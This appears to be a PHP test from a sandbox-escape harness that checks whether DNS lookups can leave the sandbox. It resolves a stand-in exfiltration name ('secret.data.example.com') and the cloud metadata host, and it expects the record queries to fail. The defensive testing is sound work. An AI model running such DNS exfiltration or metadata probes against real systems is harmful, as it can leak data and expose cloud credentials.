<?php
// attack: looks up names, which would carry data out
// expect: exited 0
// limits: wall_ms=4000
require 'attempts.php';

foreach (['example.com', 'secret.data.example.com', 'localhost', 'metadata.google.internal'] as $name) {
    if (gethostbyname($name) !== $name) {
        worked("$name is " . gethostbyname($name));
    }
    fails("records of $name", fn () => dns_get_record($name, DNS_A));
}
verdict();
